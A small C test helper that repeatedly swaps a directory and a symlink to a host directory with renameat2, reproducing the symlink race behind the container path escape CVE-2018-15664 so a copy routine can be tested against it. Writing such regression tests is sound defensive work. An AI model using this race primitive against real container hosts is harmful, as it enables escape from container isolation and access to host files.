/* For ContainerPathEscapeTest: path-swap A B exchanges the names A and B (a directory and a symlink to a host
   directory) with renameat2(RENAME_EXCHANGE) in a loop, as a hostile container does against a copy that resolves
   a path and then uses it by name (CVE-2018-15664). Built static by the test; runs until killed. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: path-swap A B\n");
        return 2;
    }
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
            perror("renameat2");
            return 1;
        }
}
